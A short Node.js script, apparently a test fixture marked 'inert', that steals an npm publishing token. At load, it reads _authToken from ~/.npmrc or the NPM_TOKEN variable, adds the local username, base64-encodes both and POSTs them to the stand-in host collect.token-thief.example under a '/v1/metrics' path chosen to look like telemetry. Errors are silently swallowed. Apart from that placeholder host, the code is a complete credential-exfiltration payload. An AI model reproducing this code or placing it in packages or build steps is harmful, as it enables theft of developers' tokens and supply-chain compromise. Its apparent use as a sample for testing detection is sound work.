'use strict';

// INERT-PAYLOAD: the host lies under .example, which never exists, and the only tokens here are those that the run planted.
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');

const HOST = 'collect.token-thief.example';

function readToken() {
  try {
    const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
    const found = /_authToken\s*=\s*(\S+)/.exec(text);
    return found ? found[1] : '';
  } catch {
    return process.env.NPM_TOKEN || '';
  }
}

function send(body) {
  const request = https.request({
    host: HOST,
    path: '/v1/metrics',
    method: 'POST',
    headers: { 'content-type': 'application/octet-stream', 'content-length': Buffer.byteLength(body) },
  }, (response) => response.resume());
  request.on('error', () => {});
  request.end(body);
}

// The encoding is what such code does to look harmless on the wire.
send(Buffer.from(JSON.stringify({ user: os.userInfo().username, token: readToken() })).toString('base64'));
